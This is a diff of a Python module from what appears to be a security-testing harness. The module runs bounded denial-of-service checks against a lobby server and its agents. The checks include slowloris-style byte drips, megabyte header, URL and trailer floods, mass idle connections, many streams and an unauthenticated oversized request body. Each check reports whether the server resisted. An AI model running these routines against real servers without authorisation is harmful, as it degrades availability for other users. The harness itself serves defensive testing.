@@ -1,76 +1,110 @@
 """Attacks that exhaust resources, in short and bounded forms."""
 
 import asyncio
-import time
-from collections.abc import AsyncIterator
+from collections.abc import AsyncIterator, Mapping
 from contextlib import AsyncExitStack, asynccontextmanager
 from urllib.parse import urlsplit
 
 import orjson
 
 from casino.attack.attack import attack
-from casino.attack.bindings import HEADERS
-from casino.attack.connection import Connection
-from casino.attack.outcome import Outcome, not_applicable, refused, succeeded
+from casino.attack.bindings import HEADERS, RPC_PATH
+from casino.attack.connection import Address, Connection, connected, head
+from casino.attack.outcome import Outcome, refused, succeeded
 from casino.attack.target import Target
 from casino.errors import NoAnswer
 
-_IDLE = 300
-_SILENT = 8
-_STREAMS = 60
-_HEADER_BYTES = 1024 * 1024
+_IDLE, _SILENT, _STREAMS = 300, 8, 60
+_MEGABYTE = 1024 * 1024
 _WATCH_S = 14.0
 """Seconds for which a silent connection or an unfinished header is watched."""
-_LINE = b"X-Mallory: " + b"m" * 2000 + b"\r\n"
+_PAUSE_S, _WRITE_S = 0.05, 5.0
 _DEEP = 100_000
-_NO_SOCKETS = "there is no network here"
+_LARGE, _PART = 900_000, 70_000
 _OK, _FULL = b"HTTP/1.1 200", b"HTTP/1.1 503"
+_POST = head(f"POST {RPC_PATH}", "Transfer-Encoding: chunked")
+
+Endless = Mapping[str, tuple[bytes, bytes]]
+"""By name: how a request begins, and what is sent repeatedly then."""
+DRIPS: Endless = {
+    "head": (b"GET /healthz HTTP/1.1\r\nX: ", b"a"),
+    "line breaks": (b"", b"\r\n"),
+    "line breaks after an answer": (head(), b"\r\n"),  # where an idle timer runs
+    "body": (head(f"POST {RPC_PATH}", "Content-Length: 9999"), b"a"),
+    "chunks": (_POST, b"1\r\na\r\n"),
+}
+FLOODS: Endless = {
+    "headers": (b"GET /healthz HTTP/1.1\r\n", b"a:b\r\n" * 8_000),
+    "one header": (b"GET /healthz HTTP/1.1\r\nX: ", b"a" * 40_000),
+    "URL": (b"GET /", b"a" * 40_000),
+    "trailers": (_POST + b"1\r\na\r\n0\r\n", b"a:b\r\n" * 8_000),
+    "chunk extension": (_POST + b"1;x=", b"a" * 40_000),
+}
 
 
 @asynccontextmanager
-async def _connections(target: Target, number: int) -> AsyncIterator[list[Connection]]:
-    """Yield up to `number` connections to the lobby, as many as it accepts."""
+async def opened(address: Address, number: int) -> AsyncIterator[list[Connection]]:
+    """Yield up to `number` connections, as many as are accepted."""
     async with AsyncExitStack() as stack:
-        opened: list[Connection] = []
+        connections: list[Connection] = []
         for _ in range(number):
             try:
-                connected = target.traffic.connected(target.lobby.origin)
-                opened.append(await stack.enter_async_context(connected))
+                connections.append(await stack.enter_async_context(connected(address)))
             except NoAnswer:
                 break
-        yield opened
+        yield connections
 
 
-def _request(target: Target, path: str) -> bytes:
-    """Return the start of a request to the lobby, without the end of its header."""
-    host = urlsplit(target.lobby.origin).netloc.encode()
-    return b"GET " + path.encode() + b" HTTP/1.1\r\nHost: " + host + b"\r\n"
+async def still_open(connections: list[Connection], seconds: float) -> int:
+    """Return how many connections the server has not closed after a time."""
+    return sum(await asyncio.gather(*(one.is_open_after(seconds) for one in connections)))
 
 
-async def _answer(target: Target) -> bytes:
+async def hold_many(address: Address, number: int, seconds: float) -> int:
+    """Open connections, send nothing, and return how many the server keeps for a time."""
+    async with opened(address, number) as connections:
+        return await still_open(connections, seconds)
+
+
+async def drip(address: Address, what: str, seconds: float) -> bool:
+    """Send one of `DRIPS` piece by piece; return whether the connection is open after a time."""
+    begin, drop = DRIPS[what]
+    clock = asyncio.get_running_loop().time
+    async with connected(address) as connection:
+        await connection.send(begin)
+        end = clock() + seconds
+        while clock() < end:
+            if not await connection.send(drop) or not await connection.is_open_after(_PAUSE_S):
+                return False
+        return True
+
+
+async def flood(address: Address, begin: bytes, piece: bytes, size: int) -> bool:
+    """Send `piece` repeatedly; return whether so many bytes were taken and more are awaited."""
+    async with connected(address) as connection:
+        is_taken = await connection.send(begin)
+        for _ in range(0, size, len(piece)):
+            is_taken = is_taken and await connection.send(piece, _WRITE_S)
+        return is_taken and await connection.is_open_after(0.3)
+
+
+async def _answer(address: Address) -> bytes:
     """Return the lobby's answer on a new connection, b"" for none."""
     try:
-        async with target.traffic.connected(target.lobby.origin) as connection:
-            await connection.send(_request(target, "/healthz") + b"\r\n")
+        async with connected(address) as connection:
+            await connection.send(head())
             return await connection.hear(5.0) or b""
     except NoAnswer:
         return b""
 
 
-async def _are_silent(connections: list[Connection], seconds: float) -> int:
-    """Return how many connections were neither closed nor answered after a time."""
-    received = await asyncio.gather(*(connection.hear(seconds) for connection in connections))
-    return sum(data is None for data in received)
-
-
 @attack("resources", "H6")
 async def hold_idle_connections(target: Target) -> Outcome:
     """Open many idle connections from one address, to lock out other clients."""
-    if not target.traffic.has_sockets:
-        return not_applicable(_NO_SOCKETS)
-    async with _connections(target, _IDLE) as opened:
-        held = await _are_silent(opened, 1.0)
-        answer = await _answer(target)
+    address = target.traffic.address(target.lobby.origin)
+    async with opened(address, _IDLE) as connections:
+        held = await still_open(connections, 1.0)
+        answer = await _answer(address)
     if answer.startswith(_OK):
         return refused(f"with {held} of {_IDLE} idle connections the lobby still answers")
     if answer.startswith(_FULL):
@@ -81,61 +115,60 @@ async def hold_idle_connections(target: Target) -> Outcome:
 @attack("resources", "H6", is_slow=True)
 async def stay_silent(target: Target) -> Outcome:
     """Open connections without sending anything, to occupy them indefinitely."""
-    if not target.traffic.has_sockets:
-        return not_applicable(_NO_SOCKETS)
-    async with _connections(target, _SILENT) as opened:
-        if not opened:
-            return not_applicable("the lobby accepts no connection")
-        held = await _are_silent(opened, _WATCH_S)
+    held = await hold_many(target.traffic.address(target.lobby.origin), _SILENT, _WATCH_S)
     if held:
-        return succeeded(f"{held} of {len(opened)} were still open after {_WATCH_S:.0f} s")
-    return refused(f"all of {len(opened)} were closed within {_WATCH_S:.0f} s")
+        return succeeded(f"{held} of {_SILENT} were still open after {_WATCH_S:.0f} s")
+    return refused(f"none of {_SILENT} was open after {_WATCH_S:.0f} s")
 
 
 @attack("resources", "H6", is_slow=True)
 async def send_slow_header(target: Target) -> Outcome:
-    """Send a request's header byte by byte and never end it."""
-    if not target.traffic.has_sockets:
-        return not_applicable(_NO_SOCKETS)
-    async with target.traffic.connected(target.lobby.origin) as connection:
-        began = time.monotonic()
-        is_taken = await connection.send(_request(target, "/healthz") + b"X-Slow: ")
-        while is_taken and time.monotonic() - began < _WATCH_S:
-            is_taken = await connection.send(b"m") and await connection.hear(0.5) is None
-        if not is_taken:
-            return refused(f"the connection was closed after {time.monotonic() - began:.0f} s")
-    return succeeded(f"the connection was still open after {_WATCH_S:.0f} s")
+    """Send a request's header, or line breaks before it, byte by byte and never end it."""
+    address, whats = target.traffic.address(target.lobby.origin), ("head", "line breaks")
+    held = await asyncio.gather(*(drip(address, what, _WATCH_S) for what in whats))
+    if any(held):
+        return succeeded(f"the connection was still open after {_WATCH_S:.0f} s")
+    return refused(f"{len(whats)} connections were closed within {_WATCH_S:.0f} s")
 
 
 @attack("resources", "H7")
 async def send_endless_header(target: Target) -> Outcome:
-    """Send one request with a megabyte of headers."""
-    if not target.traffic.has_sockets:
-        return not_applicable(_NO_SOCKETS)
-    sent = 0
-    async with target.traffic.connected(target.lobby.origin) as connection:
-        is_taken = await connection.send(_request(target, "/healthz"))
-        while is_taken and sent < _HEADER_BYTES:
-            is_taken = await connection.send(_LINE * 16) and await connection.hear(0.01) is None
-            sent += 16 * len(_LINE)
-        if not is_taken or await connection.hear(1.0) is not None:
-            return refused(f"the connection was closed after {sent // 1024} KiB")
-    return succeeded(f"the lobby read {sent // 1024} KiB of headers and waits for more")
+    """Send requests with a megabyte of headers, of one header, of URL or of trailers."""
+    address = target.traffic.address(target.lobby.origin)
+    whats = [what for what in FLOODS if what != "chunk extension"]  # counts as a body
+    taken = [what for what in whats if await flood(address, *FLOODS[what], _MEGABYTE)]
+    if taken:
+        return succeeded(f"the lobby read 1 MiB ({', '.join(taken)}) and waits for more")
+    return refused(f"{len(whats)} connections were closed before 1 MiB was read")
 
 
 @attack("resources", "H8")
 async def hold_many_streams(target: Target) -> Outcome:
     """Open many streams of the lobby at once from one address."""
-    if not target.traffic.has_sockets:
-        return not_applicable(_NO_SOCKETS)
-    async with _connections(target, _STREAMS) as opened:
-        for connection in opened:
-            await connection.send(_request(target, "/v1/stream") + b"\r\n")
-        heads = await asyncio.gather(*(connection.hear(3.0) for connection in opened))
+    async with opened(target.traffic.address(target.lobby.origin), _STREAMS) as connections:
+        for connection in connections:
+            await connection.send(head("GET /v1/stream"))
+        heads = await asyncio.gather(*(connection.hear(3.0) for connection in connections))
     streams = sum((head or b"").startswith(_OK) for head in heads)
     if streams == _STREAMS:
         return succeeded(f"all of {_STREAMS} streams of one address were accepted")
     return refused(f"{streams} of {_STREAMS} streams were accepted")
+
+
+@attack("resources", "27-C1")
+async def send_large_body(target: Target) -> Outcome:
+    """Announce a body of 900 KB to each agent, without a token, and send part of it."""
+    fields = ("Content-Type: application/json", "A2A-Version: 1.0", f"Content-Length: {_LARGE}")
+    waiting: list[str] = []
+    for agent in target.agents:
+        async with connected(target.traffic.address(agent.origin)) as connection:
+            path = urlsplit(agent.url(RPC_PATH)).path
+            await connection.send(head(f"POST {path}", *fields) + b" " * _PART, _WRITE_S)
+            if await connection.hear(2.0) is None:
+                waiting.append(agent.name)
+    if waiting:
+        return succeeded(f"{', '.join(waiting)} wait for all of {_LARGE} bytes of a stranger")
+    return refused(f"{len(target.agents)} agents answered after {_PART} of {_LARGE} bytes")
 
 
 @attack("input", "M12")
@@ -171,13 +204,3 @@ def _internal_errors(name: str, status: int, body: bytes) -> list[str]:
         return []
     is_internal = isinstance(error, dict) and error.get("code") == -32603  # noqa: PLR2004  JSON-RPC
     return [f"{name} answered with an internal error"] if is_internal else []
-
-
-ATTACKS = (
-    hold_idle_connections,
-    stay_silent,
-    send_slow_header,
-    send_endless_header,
-    hold_many_streams,
-    send_deep_body,
-)
